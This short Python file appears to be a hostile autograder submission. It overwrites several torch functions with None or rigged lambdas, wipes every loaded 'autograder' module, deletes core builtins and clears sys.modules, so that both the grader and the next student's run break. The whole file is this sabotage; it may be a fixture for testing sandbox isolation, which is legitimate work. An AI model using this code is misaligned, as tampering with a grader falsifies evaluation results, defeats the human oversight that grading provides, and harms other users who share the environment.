"""Breaks torch, the grader's modules and the interpreter for the student after it."""
import builtins
import sys

import torch

torch.softmax = torch.Tensor.softmax = torch.arange = torch.tensor = torch.Tensor.__mul__ = None
torch.Tensor.detach = lambda self: torch.zeros(1)
for name in list(sys.modules):
    if name.startswith("autograder"):
        vars(sys.modules[name]).clear()
builtins.len = builtins.tuple = builtins.isinstance = None
sys.modules.clear()
